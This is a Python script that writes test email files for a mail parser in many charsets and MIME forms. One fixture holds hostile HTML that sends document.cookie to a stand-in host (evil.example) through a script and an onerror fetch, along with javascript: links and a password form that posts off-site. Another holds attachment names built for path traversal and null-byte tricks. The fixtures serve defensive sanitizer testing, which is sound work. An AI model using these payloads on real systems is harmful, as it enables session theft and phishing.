#!/usr/bin/env python3
"""Writes the .eml files of tests/corpus/ whose bytes are awkward to type by hand: bodies in
windows-1258, GB2312, Shift-JIS, ISO-2022-JP and UTF-16, and base64 parts. The .eml files are
the source of truth and are committed; rerun this only to recreate or extend them
(python3 crates/mail/tests/make_corpus.py). Files are written with LF line endings; the test
also runs each one with CRLF."""

import base64
import os
import quopri
import unicodedata
from email.header import Header

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")

# A 1x1 transparent PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def cp1258(text):
    """Encodes Vietnamese the way windows-1258 does: base letters with circumflex, breve or
    horn are precomposed where the code page has them, tone marks are combining characters."""
    shape = {"\u0302", "\u0306", "\u031b"}
    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        d = unicodedata.normalize("NFD", ch)
        base = d[0] + "".join(m for m in d[1:] if m in shape)
        tones = "".join(m for m in d[1:] if m not in shape)
        out += unicodedata.normalize("NFC", base).encode("cp1258") + tones.encode("cp1258")
    return bytes(out)


def b64(data):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i : i + 76] for i in range(0, len(s), 76))


def qp(text, charset="utf-8"):
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def ew(text, charset="utf-8"):
    return Header(text, charset).encode()


def ew_as(text, label, codec):
    """An encoded word with the charset label real mail programs use (Python's own labels,
    such as eucgb2312_cn, are not what customers send)."""
    return f"=?{label}?B?{base64.b64encode(text.encode(codec)).decode()}?="


def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def headers(**extra):
    lines = [
        "Received: from mail.khachhang.vn (mail.khachhang.vn [203.0.113.10])\n"
        "\tby mx.hotro.example with ESMTPS id 4Xyz; Mon, 23 Nov 2026 09:15:02 +0700",
    ]
    for key, value in extra.items():
        lines.append(f"{key.replace('_', '-')}: {value}")
    return "\n".join(lines) + "\n"


def main():
    os.makedirs(OUT, exist_ok=True)

    # 1. Multipart/alternative from a Vietnamese customer: QP text, base64 HTML.
    text = (
        "Kính gửi Phòng kỹ thuật,\n\n"
        "Tên miền khachhang.vn của công ty chúng tôi không truy cập được từ sáng nay.\n"
        "Xin hãy kiểm tra giúp.\n\n"
        "Trân trọng,\nNguyễn Văn An\n"
    )
    html = (
        "<html><body><p>Kính gửi Phòng kỹ thuật,</p>"
        "<p>Tên miền <b>khachhang.vn</b> của công ty chúng tôi không truy cập được từ sáng nay.<br>"
        "Xin hãy kiểm tra giúp.</p><p>Trân trọng,<br>Nguyễn Văn An</p></body></html>"
    )
    write(
        "multipart_alternative_vietnamese_utf8.eml",
        headers(
            From=f"{ew('Nguyễn Văn An')} <An.Nguyen@KhachHang.vn>",
            To="Hỗ trợ <hotro@hotro.example>",
            Cc=f"{ew('Trần Thị Bình')} <binh.tran@khachhang.vn>, ke.toan@khachhang.vn",
            Subject=ew("Tên miền không truy cập được"),
            Date="Mon, 23 Nov 2026 09:14:55 +0700",
            Message_ID="<CAF1a2b3c4d5@mail.khachhang.vn>",
            MIME_Version="1.0",
            Content_Type='multipart/alternative; boundary="000000000000a1b2c3"',
        )
        + "\n--000000000000a1b2c3\n"
        'Content-Type: text/plain; charset="UTF-8"\n'
        "Content-Transfer-Encoding: quoted-printable\n\n"
        + qp(text)
        + "\n--000000000000a1b2c3\n"
        'Content-Type: text/html; charset="UTF-8"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + b64(html.encode())
        + "\n--000000000000a1b2c3--\n",
    )

    # 2. HTML only, as some webmail and phone apps send.
    html = (
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Đơn hàng</title>"
        "<style>p{color:red}</style></head><body>"
        "<div>Chào anh chị,</div><div><br></div>"
        "<div>Tôi muốn <i>khiếu nại</i> về hoá đơn số 0456 tháng 10: số tiền bị tính hai lần.</div>"
        "<ul><li>Hoá đơn: 0456</li><li>Số tiền: 1.200.000&nbsp;₫</li></ul>"
        "<div>Cảm ơn.</div></body></html>"
    )
    write(
        "html_only_vietnamese.eml",
        headers(
            From=f'"{ew("Lê Thị Hoa")}" <hoa.le@gmail.example>',
            To="hotro@hotro.example",
            Subject=ew("Khiếu nại hoá đơn tháng 10"),
            Date="Tue, 24 Nov 2026 20:01:00 +0700",
            Message_ID="<html-only-1@gmail.example>",
            MIME_Version="1.0",
            Content_Type="text/html; charset=utf-8",
            Content_Transfer_Encoding="quoted-printable",
        )
        + "\n"
        + qp(html)
        + "\n",
    )

    # 3. Attachments named in RFC 2231 form, one of them split into continuations.
    write(
        "attachment_vietnamese_name_rfc2231.eml",
        headers(
            From="Pham Minh <minh.pham@congty.vn>",
            To="hotro@hotro.example",
            Subject=ew("Gửi hợp đồng và hoá đơn"),
            Date="Wed, 25 Nov 2026 08:30:00 +0700",
            Message_ID="<rfc2231-attach@congty.vn>",
            MIME_Version="1.0",
            Content_Type='multipart/mixed; boundary="mixed-boundary-1"',
        )
        + "\n--mixed-boundary-1\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "Em gửi hợp đồng và hoá đơn đính kèm.\n"
        "\n--mixed-boundary-1\n"
        "Content-Type: application/pdf; name*=utf-8''H%C3%B3a%20%C4%91%C6%A1n%20th%C3%A1ng%2010.pdf\n"
        "Content-Disposition: attachment;\n"
        " filename*=utf-8''H%C3%B3a%20%C4%91%C6%A1n%20th%C3%A1ng%2010.pdf\n"
        "Content-Transfer-Encoding: base64\n\n"
        + b64(PDF)
        + "\n--mixed-boundary-1\n"
        "Content-Type: application/pdf\n"
        "Content-Disposition: attachment;\n"
        " filename*0*=utf-8''H%E1%BB%A3p%20%C4%91%E1%BB%93ng;\n"
        " filename*1*=%20s%E1%BB%91%2012.pdf\n"
        "Content-Transfer-Encoding: base64\n\n"
        + b64(PDF + b"%contract\n")
        + "\n--mixed-boundary-1--\n",
    )

    # 4. Attachment named with an encoded word, as Outlook and Gmail still do.
    write(
        "attachment_vietnamese_name_encoded_word.eml",
        headers(
            From="Đỗ Quang <quang.do@outlook.example>",
            To="hotro@hotro.example",
            Subject=ew("Ảnh chụp lỗi đăng nhập"),
            Date="Wed, 25 Nov 2026 10:00:00 +0700",
            Message_ID="<encoded-word-attach@outlook.example>",
            MIME_Version="1.0",
            Content_Type='multipart/mixed; boundary="_004_outlook_"',
        )
        + "\n--_004_outlook_\n"
        'Content-Type: text/plain; charset="utf-8"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + b64("Tôi không đăng nhập được, ảnh chụp màn hình kèm theo.\n".encode())
        + "\n--_004_outlook_\n"
        f'Content-Type: image/png; name="{ew("Ảnh chụp màn hình lỗi.png")}"\n'
        f'Content-Disposition: attachment; filename="{ew("Ảnh chụp màn hình lỗi.png")}"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + b64(PNG)
        + "\n--_004_outlook_--\n",
    )

    # 5. HTML with an inline image referenced by cid.
    write(
        "inline_image_cid.eml",
        headers(
            From="Cửa hàng Hoa Mai <shop@hoamai.vn>",
            To="hotro@hotro.example",
            Subject=ew("Logo không hiển thị trên trang"),
            Date="Thu, 26 Nov 2026 14:00:00 +0700",
            Message_ID="<inline-cid@hoamai.vn>",
            MIME_Version="1.0",
            Content_Type='multipart/related; boundary="rel-1"; type="text/html"',
        )
        + "\n--rel-1\n"
        "Content-Type: text/html; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        '<p>Logo của chúng tôi: <img src="cid:logo.png@hoamai.vn" alt="logo"></p>\n'
        "<p>Trên trang chủ nó không hiện.</p>\n"
        "\n--rel-1\n"
        "Content-Type: image/png\n"
        "Content-ID: <logo.png@hoamai.vn>\n"
        "Content-Disposition: inline\n"
        "Content-Transfer-Encoding: base64\n\n"
        + b64(PNG)
        + "\n--rel-1--\n",
    )

    # 6. A windows-1258 body and subject: decomposed Vietnamese on the wire.
    body_vi = (
        "Kính gửi quý công ty,\n\n"
        "Chúng tôi đã thanh toán hoá đơn nhưng dịch vụ vẫn bị tạm ngưng.\n"
        "Đề nghị kiểm tra và mở lại dịch vụ.\n\n"
        "Trân trọng,\nVũ Thị Phương\n"
    )
    subj = "Dịch vụ bị tạm ngưng"
    subj_qp = "".join(
        f"={b:02X}" if b > 127 or b in b" =?_" else chr(b) for b in cp1258(subj)
    )
    write(
        "windows1258_body.eml",
        (
            headers(
                From="Vu Thi Phuong <phuong.vu@doanhnghiep.vn>",
                To="hotro@hotro.example",
                Subject=f"=?windows-1258?Q?{subj_qp}?=",
                Date="Fri, 27 Nov 2026 07:45:00 +0700",
                Message_ID="<cp1258-body@doanhnghiep.vn>",
                MIME_Version="1.0",
                Content_Type="text/plain; charset=windows-1258",
                Content_Transfer_Encoding="8bit",
            )
            + "\n"
        ).encode()
        + cp1258(body_vi),
    )

    # 7. ISO-8859-1 from a French partner.
    write(
        "iso8859_1_body.eml",
        (
            headers(
                From="=?ISO-8859-1?Q?Fran=E7ois_L=E9ger?= <francois@partenaire.example>",
                To="hotro@hotro.example",
                Subject="=?ISO-8859-1?Q?Probl=E8me_de_facturation?=",
                Date="Fri, 27 Nov 2026 03:00:00 +0100",
                Message_ID="<latin1@partenaire.example>",
                MIME_Version="1.0",
                Content_Type="text/plain; charset=ISO-8859-1",
                Content_Transfer_Encoding="quoted-printable",
            )
            + "\n"
            + qp("Bonjour,\nLa facture n°12 est erronée. Merci de vérifier.\nFrançois\n", "latin-1")
        ).encode(),
    )

    # 8. GB2312 from a Chinese supplier.
    write(
        "gb2312_body.eml",
        (
            headers(
                From=f"{ew_as('王伟', 'GB2312', 'gb2312')} <wang.wei@supplier.example>",
                To="hotro@hotro.example",
                Subject=ew_as("发票问题", "GB2312", "gb2312"),
                Date="Sat, 28 Nov 2026 10:00:00 +0800",
                Message_ID="<gb2312@supplier.example>",
                MIME_Version="1.0",
                Content_Type="text/plain; charset=GB2312",
                Content_Transfer_Encoding="8bit",
            )
            + "\n"
        ).encode()
        + "您好，发票金额有误，请核对。\n谢谢\n".encode("gb2312"),
    )

    # 9. Shift-JIS from a Japanese customer.
    write(
        "shift_jis_body.eml",
        (
            headers(
                From=f"{ew_as('田中', 'Shift_JIS', 'shift_jis')} <tanaka@kaisha.example>",
                To="hotro@hotro.example",
                Subject=ew_as("請求書について", "Shift_JIS", "shift_jis"),
                Date="Sat, 28 Nov 2026 11:00:00 +0900",
                Message_ID="<sjis@kaisha.example>",
                MIME_Version="1.0",
                Content_Type="text/plain; charset=Shift_JIS",
                Content_Transfer_Encoding="8bit",
            )
            + "\n"
        ).encode()
        + "お世話になっております。\n請求書の金額を確認してください。\n".encode("shift_jis"),
    )

    # 10. ISO-2022-JP, the classic 7-bit Japanese mail encoding.
    jis_body = "サポートご担当者様\nログインできません。\n".encode("iso2022_jp")
    write(
        "iso2022jp_body.eml",
        (
            headers(
                From="Suzuki <suzuki@kaisha.example>",
                To="hotro@hotro.example",
                Subject=ew_as("ログインできません", "ISO-2022-JP", "iso2022_jp"),
                Date="Sat, 28 Nov 2026 12:00:00 +0900",
                Message_ID="<iso2022jp@kaisha.example>",
                MIME_Version="1.0",
                Content_Type="text/plain; charset=ISO-2022-JP",
                Content_Transfer_Encoding="7bit",
            )
            + "\n"
        ).encode()
        + jis_body,
    )

    # 11. UTF-16 with a byte order mark, base64 encoded.
    write(
        "utf16_body.eml",
        headers(
            From="Hoàng Long <long.hoang@khachhang.vn>",
            To="hotro@hotro.example",
            Subject=ew("Yêu cầu báo giá tên miền .vn"),
            Date="Sun, 29 Nov 2026 09:00:00 +0700",
            Message_ID="<utf16@khachhang.vn>",
            MIME_Version="1.0",
            Content_Type="text/plain; charset=utf-16",
            Content_Transfer_Encoding="base64",
        )
        + "\n"
        + b64("Xin báo giá đăng ký tên miền .vn cho 3 năm.\n".encode("utf-16"))
        + "\n",
    )

    # 12. A charset no decoder knows, with 8-bit bytes.
    write(
        "unknown_charset_x_unknown.eml",
        (
            headers(
                From="Old Client <old@legacy.example>",
                To="hotro@hotro.example",
                Subject="=?x-unknown?Q?Xin_ch=E0o?=",
                Date="Sun, 29 Nov 2026 10:00:00 +0700",
                Message_ID="<x-unknown@legacy.example>",
                MIME_Version="1.0",
                Content_Type="text/plain; charset=x-unknown",
                Content_Transfer_Encoding="8bit",
            )
            + "\n"
        ).encode()
        + b"Xin ch\xe0o, d\xf5ch v\xf9 c\xf3 l\xf6i.\n",
    )

    # 13. Broken headers: raw UTF-8 subject, a line without a colon, an unreadable date, an
    # unterminated encoded word in a name, a bad base64 part and a missing closing boundary.
    write(
        "broken_headers.eml",
        "Received: garbage without structure\n"
        "From: =?utf-8?B?TmfDtCBUaOG6oW5o <thanh.ngo@khachhang.vn>\n"
        "To: hotro@hotro.example,,,\n"
        "Subject: Lỗi   không gửi được\n\tmail   (viết không mã hoá)\n"
        "this line has no colon at all\n"
        "Date: 32 Foo 2026 99:99:99 +9999\n"
        "Message-ID: <broken-headers@khachhang.vn\n"
        "Content-Type: multipart/mixed; boundary=zzz\n"
        "\n"
        "--zzz\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Nội dung vẫn phải đọc được.\n"
        "--zzz\n"
        "Content-Type: application/octet-stream; name=data.bin\n"
        "Content-Transfer-Encoding: base64\n\n"
        "!!!! not base64 at all @@@@\n",
    )

    # 14. No From header at all.
    write(
        "missing_from.eml",
        headers(
            To="hotro@hotro.example",
            Subject=ew("Không có người gửi"),
            Date="Mon, 30 Nov 2026 09:00:00 +0700",
            Message_ID="<missing-from@relay.example>",
            MIME_Version="1.0",
            Content_Type="text/plain; charset=utf-8",
        )
        + "\nThư này không có dòng From.\n",
    )

    # 15. A bounce: multipart/report with a delivery status and the original message.
    write(
        "bounce_multipart_report.eml",
        "Return-Path: <>\n"
        + headers(
            From="Mail Delivery System <MAILER-DAEMON@mx.khachhang.vn>",
            To="hotro@hotro.example",
            Subject="Undelivered Mail Returned to Sender",
            Date="Mon, 30 Nov 2026 10:00:00 +0700",
            Message_ID="<bounce-1@mx.khachhang.vn>",
            MIME_Version="1.0",
            Content_Type='multipart/report; report-type=delivery-status; boundary="bnd"',
        )
        + "\n--bnd\n"
        "Content-Description: Notification\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "This is the mail system at host mx.khachhang.vn.\n"
        "I'm sorry to have to inform you that your message could not be delivered.\n"
        "\n--bnd\n"
        "Content-Description: Delivery report\n"
        "Content-Type: message/delivery-status\n\n"
        "Reporting-MTA: dns; mx.khachhang.vn\n\n"
        "Final-Recipient: rfc822; nobody@khachhang.vn\n"
        "Action: failed\n"
        "Status: 5.1.1\n"
        "\n--bnd\n"
        "Content-Description: Undelivered Message\n"
        "Content-Type: message/rfc822\n\n"
        "From: hotro@hotro.example\n"
        "To: nobody@khachhang.vn\n"
        "Subject: [HT-2026-000042] =?utf-8?Q?X=C3=A1c_nh=E1=BA=ADn?=\n"
        "Message-ID: <notice-42@hotro.example>\n"
        "\n"
        "Kinh thua quy khach\n"
        "\n--bnd--\n",
    )

    # 16. An out-of-office auto-reply.
    write(
        "auto_reply_out_of_office.eml",
        headers(
            From="Nguyễn Văn An <an.nguyen@khachhang.vn>",
            To="hotro@hotro.example",
            Subject=ew("Trả lời tự động: [HT-2026-000123] Tên miền không truy cập được"),
            Date="Mon, 30 Nov 2026 11:00:00 +0700",
            Message_ID="<ooo-1@khachhang.vn>",
            In_Reply_To="<notice-123@hotro.example>",
            Auto_Submitted="auto-replied",
            X_Autoreply="yes",
            MIME_Version="1.0",
            Content_Type="text/plain; charset=utf-8",
            Content_Transfer_Encoding="8bit",
        )
        + "\nTôi đang nghỉ phép đến ngày 7/12. Vui lòng liên hệ chị Bình.\n",
    )

    # 17. A customer's reply from Gmail in Vietnamese, quoting the agent's answer.
    text = (
        "Dạ em đã thử lại nhưng vẫn lỗi ạ. Em gửi thêm ảnh chụp.\n\n"
        "Vào lúc 10:15 ngày 23 tháng 11, 2026, Hỗ trợ khách hàng <hotro@hotro.example> đã\n"
        "viết:\n\n"
        "> Kính thưa quý khách,\n"
        ">\n"
        "> Chúng tôi đã kiểm tra tên miền khachhang.vn.\n"
        ">\n"
        "> Cám ơn quý khách đã quan tâm đến sản phẩm và dịch vụ của chúng tôi\n"
    )
    html = (
        '<div dir="ltr">Dạ em đã thử lại nhưng vẫn lỗi ạ. Em gửi thêm ảnh chụp.</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">Vào lúc 10:15 ngày 23 tháng 11, 2026, '
        'Hỗ trợ khách hàng &lt;<a href="mailto:hotro@hotro.example">hotro@hotro.example</a>&gt; đã viết:<br></div>'
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Kính thưa quý khách,<br><br>'
        "Chúng tôi đã kiểm tra tên miền khachhang.vn.</blockquote></div>"
    )
    write(
        "reply_in_reply_to_gmail_vietnamese_quote.eml",
        headers(
            From=f"{ew('Nguyễn Văn An')} <an.nguyen@khachhang.vn>",
            To=f"{ew('Hỗ trợ khách hàng')} <hotro@hotro.example>",
            Subject=ew("Re: [HT-2026-000123] Tên miền không truy cập được"),
            Date="Mon, 23 Nov 2026 10:40:12 +0700",
            Message_ID="<CAF-reply-2@mail.gmail.example>",
            In_Reply_To="<reply-123-1@hotro.example>",
            References="<CAF1a2b3c4d5@mail.khachhang.vn>\n <reply-123-1@hotro.example>",
            MIME_Version="1.0",
            Content_Type='multipart/alternative; boundary="0000000000009f8e7d"',
        )
        + "\n--0000000000009f8e7d\n"
        'Content-Type: text/plain; charset="UTF-8"\n'
        "Content-Transfer-Encoding: quoted-printable\n\n"
        + qp(text)
        + "\n--0000000000009f8e7d\n"
        'Content-Type: text/html; charset="UTF-8"\n'
        "Content-Transfer-Encoding: quoted-printable\n\n"
        + qp(html)
        + "\n--0000000000009f8e7d--\n",
    )

    # 18. Hostile HTML: scripts, event handlers, javascript: links, remote tracking images.
    html = (
        "<html><head><script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<style>body{background:url(https://evil.example/bg.png)}</style></head>"
        '<body onload="steal()"><p>Xin chào, vui lòng <a href="javascript:alert(document.cookie)">bấm vào đây</a>.</p>'
        '<img src="https://tracker.example/open.gif?id=42" width="1" height="1">'
        '<img src="x" onerror="fetch(\'https://evil.example/\'+document.cookie)">'
        '<a href="https://khachhang.vn/don-hang" target="_blank">Đơn hàng</a>'
        '<iframe src="https://evil.example/frame"></iframe>'
        '<form action="https://evil.example/login"><input name="password"></form>'
        '<svg><script>alert(1)</script></svg><object data="https://evil.example/x.swf"></object>'
        '<a href=" JaVaScRiPt:alert(2)">hai</a><div style="position:fixed;top:0">phủ màn hình</div>'
        "</body></html>"
    )
    write(
        "hostile_html_script_onerror_javascript.eml",
        headers(
            From="Khach la <khach.la@spam.example>",
            To="hotro@hotro.example",
            Subject=ew("Hoá đơn cần thanh toán gấp"),
            Date="Tue, 01 Dec 2026 01:00:00 +0700",
            Message_ID="<hostile-html@spam.example>",
            MIME_Version="1.0",
            Content_Type="text/html; charset=utf-8",
            Content_Transfer_Encoding="base64",
        )
        + "\n"
        + b64(html.encode())
        + "\n",
    )

    # 19. Attachment names with path tricks and reserved device names.
    parts = ""
    for disposition in [
        'filename="../../etc/passwd"',
        'filename="CON.txt"',
        'filename="..\\\\..\\\\Windows\\\\system.ini"',
        "filename*=utf-8''evil%00name%0A.txt",
        'filename="...."',
    ]:
        parts += (
            "--trick\n"
            "Content-Type: application/octet-stream\n"
            f"Content-Disposition: attachment; {disposition}\n"
            "Content-Transfer-Encoding: base64\n\n" + b64(b"not what it seems\n") + "\n"
        )
    write(
        "path_trick_attachment_names.eml",
        headers(
            From="Attacker <a@attacker.example>",
            To="hotro@hotro.example",
            Subject="Files",
            Date="Tue, 01 Dec 2026 02:00:00 +0700",
            Message_ID="<path-tricks@attacker.example>",
            MIME_Version="1.0",
            Content_Type='multipart/mixed; boundary="trick"',
        )
        + "\n--trick\n"
        "Content-Type: text/plain\n\nSee attached.\n"
        + parts
        + "--trick--\n",
    )

    # 20. A newsletter: bulk precedence and a list id.
    write(
        "precedence_bulk_newsletter.eml",
        headers(
            From="Tin tức <news@bao.example>",
            To="hotro@hotro.example",
            Subject=ew("Bản tin tuần"),
            Date="Tue, 01 Dec 2026 06:00:00 +0700",
            Message_ID="<newsletter-49@bao.example>",
            Precedence="bulk",
            List_Id="Tin tuan <tintuan.bao.example>",
            List_Unsubscribe="<mailto:unsubscribe@bao.example>",
            MIME_Version="1.0",
            Content_Type="text/plain; charset=utf-8",
        )
        + "\nBản tin tuần này.\n",
    )

    # 21. An Outlook reply in Vietnamese with the header block instead of > quotes.
    text = (
        "Vâng, chúng tôi đồng ý với phương án đổi gói dịch vụ.\n\n"
        "________________________________\n"
        "Từ: Hỗ trợ khách hàng <hotro@hotro.example>\n"
        "Đã gửi: Thứ Hai, 23 tháng 11, 2026 14:00\n"
        "Đến: Công ty ABC <lienhe@abc.vn>\n"
        "Chủ đề: [HT-2026-000200] Đề xuất đổi gói\n\n"
        "Kính thưa quý khách,\nChúng tôi đề xuất đổi sang gói Pro.\n"
    )
    write(
        "outlook_reply_vietnamese_header_block.eml",
        headers(
            From=f"{ew('Công ty ABC')} <LienHe@ABC.vn>",
            To="hotro@hotro.example",
            Subject=ew("TL: [HT-2026-000200] Đề xuất đổi gói"),
            Date="Tue, 24 Nov 2026 08:00:00 +0700",
            Message_ID="<SG2PR01MB1234ABCD@SG2PR01MB1234.apcprd01.prod.outlook.example>",
            In_Reply_To="<reply-200-1@hotro.example>",
            Thread_Topic="[HT-2026-000200] Đề xuất đổi gói",
            MIME_Version="1.0",
            Content_Type="text/plain; charset=utf-8",
            Content_Transfer_Encoding="base64",
        )
        + "\n"
        + b64(text.encode())
        + "\n",
    )

    # 22. A forwarded message attached as message/rfc822, and a text file attachment in
    # windows-1258 whose bytes must stay as sent.
    attached_txt = cp1258("Biên bản làm việc ngày 20/11\n")
    write(
        "forwarded_rfc822_and_windows1258_text_attachment.eml",
        headers(
            From="Bùi Lan <lan.bui@khachhang.vn>",
            To="hotro@hotro.example",
            Subject=ew("Fwd: Biên bản làm việc"),
            Date="Wed, 02 Dec 2026 09:00:00 +0700",
            Message_ID="<fwd-rfc822@khachhang.vn>",
            MIME_Version="1.0",
            Content_Type='multipart/mixed; boundary="fwd"',
        )
        + "\n--fwd\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Em chuyển tiếp thư của bên kỹ thuật và biên bản.\n"
        "\n--fwd\n"
        "Content-Type: message/rfc822\n"
        "Content-Disposition: attachment\n\n"
        "From: ky.thuat@khachhang.vn\n"
        "To: lan.bui@khachhang.vn\n"
        f"Subject: {ew('Biên bản làm việc')}\n"
        "Message-ID: <inner@khachhang.vn>\n"
        "Date: Tue, 01 Dec 2026 17:00:00 +0700\n"
        "\n"
        "Gui chi bien ban.\n"
        "\n--fwd\n"
        'Content-Type: text/plain; charset=windows-1258; name="bien-ban.txt"\n'
        'Content-Disposition: attachment; filename="bien-ban.txt"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + b64(attached_txt)
        + "\n--fwd--\n",
    )


if __name__ == "__main__":
    main()
